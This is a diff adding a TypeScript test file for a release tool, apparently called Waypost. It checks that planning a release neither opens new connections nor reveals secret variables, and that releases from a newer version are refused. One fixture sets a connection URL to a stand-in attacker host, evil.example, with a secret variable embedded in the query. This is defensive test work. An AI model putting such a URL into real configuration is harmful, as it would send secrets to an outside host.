@@ -1,0 +1,82 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { definePlugin } from '../../src/contract/index.ts'
+import { activateRelease } from '../../src/release/index.ts'
+import { makeGreeting, openDeployers } from './deployers.ts'
+
+const survey = 'POST /backend/release/survey'
+
+/** A class that notes with which address it is opened, and is always down. */
+function makeSpy() {
+  const opened: string[] = []
+  const plugin = definePlugin({
+    name: 'spy',
+    requires: '*',
+    connections: {
+      spy: {
+        description: 'Notes what it is opened with',
+        config: { type: 'object', properties: { url: { type: 'string' } } },
+        clientType: 'unknown',
+        migrations: 'sqlite',
+        async open({ url }: { url: string }) {
+          opened.push(url)
+          throw new Error('down')
+        },
+      },
+    },
+  })
+  return { opened, plugin }
+}
+
+test('who may only look has no connection opened that is not in the active release, nor learns of a variable', async () => {
+  const { opened, plugin } = makeSpy()
+  const variables = { LEDGER: 'a-word-that-stays-here' }
+  const world = await openDeployers('sqlite', { plugins: [plugin], variables })
+  try {
+    const { manifest, artifacts } = makeGreeting('hello')
+    const release = {
+      manifest: {
+        ...manifest,
+        connections: { Ledger: { class: 'spy', config: { url: 'https://evil.example/?${env.LEDGER}' } } },
+        variables: { LEDGER: { optional: false } },
+        migrations: [
+          { connection: 'Ledger', name: '1-first', checksum: 'a'.repeat(64), artifact: artifacts[0]!.hash },
+          { connection: 'System', name: '1-first', checksum: 'b'.repeat(64), artifact: artifacts[0]!.hash },
+        ],
+      },
+      artifacts,
+    }
+    const json = { protocol: 1, manifest: release.manifest }
+    const looked = await world.plan(survey, json)
+    assert.equal(looked.status, 200, looked.text)
+    assert.deepEqual(looked.body.pendingMigrations, ['System/1-first', 'Ledger/1-first'])
+    assert.ok(!looked.text.includes(variables.LEDGER))
+    assert.deepEqual(opened, [])
+
+    await world.deploy(survey, json)
+    assert.deepEqual([...new Set(opened)], ['https://evil.example/?a-word-that-stays-here'], 'who deploys may have it')
+    opened.length = 0
+    await activateRelease(world.system, release, { by: 'ann' })
+    await world.plan(survey, json)
+    assert.ok(opened.length > 0, 'it is one of the active release now')
+  } finally {
+    await world.close()
+  }
+})
+
+test('a release of a newer Waypost is refused, with what to do', async () => {
+  const world = await openDeployers('sqlite')
+  try {
+    const { manifest } = makeGreeting('hello', { waypost: '99.1.0' })
+    for (const [call, line] of [
+      [world.plan, survey],
+      [world.deploy, 'POST /backend/release'],
+    ] as const) {
+      const { status, body } = await call(line, { protocol: 1, manifest })
+      assert.deepEqual([status, body.type], [409, 'urn:waypost:errors#WP_BACKEND_OLDER'], line)
+      assert.match(body.hint, /Update the servers first/)
+    }
+  } finally {
+    await world.close()
+  }
+})
